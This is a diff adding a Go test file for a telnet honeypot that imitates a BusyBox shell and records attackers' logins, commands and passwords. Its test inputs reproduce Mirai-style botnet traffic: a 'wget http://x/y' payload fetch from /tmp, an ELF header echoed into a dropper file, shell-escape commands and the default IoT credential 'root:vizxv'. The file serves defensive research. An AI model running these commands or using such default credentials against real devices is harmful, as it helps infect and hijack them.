@@ -0,0 +1,142 @@
+package telnetd
+
+import (
+	"bytes"
+	"net"
+	"testing"
+	"time"
+)
+
+func TestExecute(t *testing.T) {
+	for line, expected := range map[string]string{
+		"/bin/busybox MIRAI":                        "MIRAI: applet not found\r\n",
+		"enable; system; shell; sh":                 "",
+		`/bin/busybox echo -e '\x6b\x61\x6d\x69'`:   "kami\r\n",
+		`echo -ne "\x7f\x45\x4c\x46" > .d; cat .d`:  "cat: can't open '.d': No such file or directory\r\n",
+		"cd /tmp || cd /var/run && wget http://x/y": "",
+		"nvram show": "-sh: nvram: not found\r\n",
+	} {
+		output, exit := execute(line)
+		if output != expected || exit {
+			t.Errorf("%s : unexpected output %q, expected %q", line, output, expected)
+		}
+	}
+
+	if _, exit := execute("uname -a; exit"); !exit {
+		t.Error("expected the exit command to close the session")
+	}
+}
+
+func TestServe(t *testing.T) {
+	server := New(Options{
+		LoginPrompt:    "login: ",
+		PasswordPrompt: "Password: ",
+		Motd:           "BusyBox\r\n",
+		Prompt:         "# ",
+		Accept:         []string{"root:vizxv"},
+		MaxAttempts:    3,
+		Timeout:        time.Second,
+		MaxSize:        1024,
+	})
+
+	client, conn := net.Pipe()
+	sessions := make(chan Session, 1)
+	go func() {
+		sessions <- server.Serve(conn)
+	}()
+
+	// Read everything sent by the server in the background, including the negotiation and the echo
+	output := make(chan []byte, 64)
+	go func() {
+		for {
+			buf := make([]byte, 256)
+			n, err := client.Read(buf)
+			if err != nil {
+				close(output)
+				return
+			}
+			output <- buf[:n]
+		}
+	}()
+
+	var received []byte
+	expect := func(expected string) {
+		for !bytes.Contains(received, []byte(expected)) {
+			select {
+			case data, ok := <-output:
+				if !ok {
+					t.Fatalf("expected %q, got %q", expected, received)
+				}
+				received = append(received, data...)
+			case <-time.After(time.Second):
+				t.Fatalf("expected %q, got %q", expected, received)
+			}
+		}
+
+		received = received[bytes.Index(received, []byte(expected))+len(expected):]
+	}
+
+	expect(string(negotiation))
+	expect("login: ")
+	// The client refuses the echo and sends its window size along with the username
+	_, _ = client.Write([]byte{cmdIAC, cmdWont, optEcho, cmdIAC, cmdSB, optNAWS, 0, 80, 0, 24, cmdIAC, cmdSE})
+	_, _ = client.Write([]byte("admin\r\n"))
+	expect("Password: ")
+	_, _ = client.Write([]byte("admin\r\n"))
+	expect("Login incorrect\r\nlogin: ")
+	_, _ = client.Write([]byte("root\r\x00"))
+	expect("Password: ")
+	_, _ = client.Write([]byte("vizxv\r\n"))
+	expect("BusyBox\r\n# ")
+	_, _ = client.Write([]byte("/bin/busybox ECCHI\r\n"))
+	expect("ECCHI: applet not found\r\n# ")
+	_, _ = client.Write([]byte("exit\r\n"))
+
+	session := <-sessions
+	if session.ClosedBy != ClosedByServer || session.Truncated {
+		t.Fatalf("unexpected session %+v", session)
+	}
+
+	if len(session.Logins) != 2 || session.Logins[0] != (Login{"admin", "admin", false}) || session.Logins[1] != (Login{"root", "vizxv", true}) {
+		t.Errorf("unexpected logins %+v", session.Logins)
+	}
+
+	if len(session.Commands) != 2 || session.Commands[0] != "/bin/busybox ECCHI" || session.Commands[1] != "exit" {
+		t.Errorf("unexpected commands %q", session.Commands)
+	}
+
+	secrets := 0
+	for _, msg := range session.Dialogue {
+		if msg.Secret {
+			secrets++
+		}
+	}
+
+	if secrets != 2 {
+		t.Errorf("expected the 2 passwords to be flagged in the dialogue %+v", session.Dialogue)
+	}
+}
+
+func TestServeTimeout(t *testing.T) {
+	server := New(Options{LoginPrompt: "login: ", MaxAttempts: 3, Timeout: 50 * time.Millisecond, MaxSize: 1024})
+
+	client, conn := net.Pipe()
+	sessions := make(chan Session, 1)
+	go func() {
+		sessions <- server.Serve(conn)
+	}()
+
+	go func() {
+		buf := make([]byte, 64)
+		for {
+			if _, err := client.Read(buf); err != nil {
+				return
+			}
+		}
+	}()
+
+	session := <-sessions
+	if session.ClosedBy != ClosedByTimeout || len(session.Logins) != 0 {
+		t.Errorf("unexpected session %+v", session)
+	}
+}